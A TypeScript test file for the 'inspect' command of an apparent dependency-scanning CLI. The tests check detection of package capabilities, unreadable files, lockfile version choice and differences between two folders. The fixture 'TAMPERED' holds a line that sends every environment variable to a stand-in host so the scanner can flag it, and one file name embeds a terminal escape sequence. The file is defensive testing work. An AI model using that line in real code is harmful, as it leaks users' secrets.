import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, test } from 'node:test';
import { type Schema, Validator } from '@cfworker/json-schema';
import { makeProject, runCli } from './run-cli.ts';

const CLEAN = `exports.get = () => fetch('https://api.example.com');`;
const TAMPERED = `${CLEAN}\nfetch('https://collect.example/' + btoa(JSON.stringify(process.env)));`;

describe('inspect', () => {
  test('lists what an installed package can do, and sends nothing with --offline', () => {
    const directory = makeProject({
      'package.json': '{ "dependencies": { "sample": "1.0.0" } }',
      'package-lock.json': JSON.stringify({
        lockfileVersion: 3,
        packages: { '': { dependencies: { sample: '1.0.0' } }, 'node_modules/sample': { version: '1.0.0' } },
      }),
      'node_modules/sample/package.json': '{ "name": "sample", "version": "1.0.0" }',
      'node_modules/sample/index.js': CLEAN,
    });
    const { code, out, error } = runCli(['inspect', 'sample', directory, '--offline', '--format', 'json']);
    assert.equal(error, '');
    const { subject, from, suspicious, capabilities } = JSON.parse(out);
    assert.deepEqual([code, subject, from, suspicious], [0, 'sample 1.0.0', 'installed', false]);
    assert.deepEqual(capabilities[0], {
      capability: 'network',
      detail: 'api.example.com',
      file: 'index.js',
      line: 1,
    });
  });

  test('says what lies too deep or is nested too deeply, and ends with 2', () => {
    const deep = `${'d/'.repeat(21)}e.js`;
    const nested = `x = ${'<T>('.repeat(40)}a${')'.repeat(40)}; require("child_process");`;
    const directory = makeProject({ 'package.json': '{}', [deep]: TAMPERED, 'nested.ts': nested });
    const { code, out } = runCli(['inspect', directory]);
    assert.equal(code, 2);
    assert.match(out, /^Not read: (?:d\/)+d: it is below 20 folders\.$/m);
    assert.match(out, /^Not read: nested\.ts: it is nested too deeply\.$/m);
  });

  test('says that a pipe which the manifest names is not read', {
    skip: process.platform === 'win32',
  }, () => {
    const directory = makeProject({
      'package.json': '{ "main": "entry.dat", "bin": { "run": "lib/run" } }',
      'lib/other.js': CLEAN,
    });
    for (const name of ['entry.dat', 'lib/run.js']) execFileSync('mkfifo', [join(directory, name)]);
    const { code, out } = runCli(['inspect', directory]);
    assert.equal(code, 2);
    assert.match(out, /^Not read: entry\.dat: it is no regular file of this folder\.$/m);
    assert.match(out, /^Not read: lib\/run\.js: it is no regular file of this folder\.$/m);
  });

  test('takes the version that the root imports of several, or names them', () => {
    const installed = (version: string) => JSON.stringify({ name: 'sample', version });
    const files = (top: string) => ({
      'package.json': '{ "dependencies": { "other": "1.0.0" } }',
      'package-lock.json': JSON.stringify({
        lockfileVersion: 3,
        packages: {
          '': { dependencies: { other: '1.0.0' } },
          'node_modules/other': { version: '1.0.0', dependencies: { sample: '1.0.0' } },
          'node_modules/other/node_modules/sample': { version: '1.0.0' },
          [top]: { version: '2.0.0' },
        },
      }),
      'node_modules/sample/package.json': installed('2.0.0'),
      'node_modules/sample/index.js': CLEAN,
      'node_modules/other/node_modules/sample/package.json': installed('1.0.0'),
    });
    const run = (top: string) =>
      runCli(['inspect', 'sample', makeProject(files(top)), '--offline', '--format', 'json']);
    assert.equal(JSON.parse(run('node_modules/sample').out).subject, 'sample 2.0.0');
    const nested = makeProject({
      ...files('node_modules/a/node_modules/sample'),
      'node_modules/sample/package.json': '{}',
    });
    const { code, error } = runCli(['inspect', 'sample', nested, '--offline']);
    assert.equal(code, 2);
    assert.match(error, /; the lockfile has 2\.0\.0 and 1\.0\.0, give one of them\./);
    const absent = runCli(['inspect', 'sample', makeProject({ 'package.json': '{}' }), '--offline']);
    assert.match(
      absent.error,
      /not inspected: offline; leave out --offline, or install it into node_modules first\./,
    );
  });

  test('shows what is new in a folder against another one, and ends with 1', () => {
    const directory = makeProject({
      'old/package.json': '{}',
      'old/index.js': CLEAN,
      'new/package.json': '{}',
      'new/index.js': TAMPERED,
    });
    const args = ['inspect', './new', '--against', './old'];
    const { code, out } = runCli(args, { cwd: directory });
    const json = JSON.parse(runCli([...args, '--format', 'json'], { cwd: directory }).out);
    const file = join(import.meta.dirname, '../../server/schema/inspect.schema.json');
    const validator = new Validator(JSON.parse(readFileSync(file, 'utf8')) as Schema, '7', false);
    assert.deepEqual(validator.validate(json).errors, []);
    assert.equal(validator.validate({ ...json, signs: [{}] }).valid, false);
    assert.equal(code, 1);
    assert.match(out, /\+ network \(collect\.example\) \(index\.js:2\)/);
    assert.match(out, /\+ environment \(all\)/);
    assert.doesNotMatch(out, /\+ network \(api\.example\.com\)/);
    assert.match(out, /Suspicious: \d+ points/);
  });

  test('ends with 2 if some of the code was not read', () => {
    const directory = makeProject({ 'package.json': '{}', 'index.js': 'eval(a); let b = ;' });
    const { code, out } = runCli(['inspect', '.'], { cwd: directory });
    assert.equal(code, 2);
    assert.match(out, /Not read: index\.js: it is not valid JavaScript or TypeScript\./);
  });

  test('prints untrusted names so that they cannot imitate its output', () => {
    const directory = makeProject({
      'package.json': '{}',
      'a\u001b[31m.js': `require('child_process').exec('a');`,
    });
    assert.ok(!runCli(['inspect', '.'], { cwd: directory }).out.includes('\u001b'));
  });

  test('says in one line why there is nothing to inspect', () => {
    for (const args of [['inspect'], ['inspect', './missing'], ['inspect', 'sample', '--offline']]) {
      const { code, error } = runCli(args, { cwd: makeProject({ 'package.json': '{}' }) });
      assert.equal(code, 2);
      assert.match(error, /^dephygiene: [^\n]+\.\n$/);
    }
  });
});
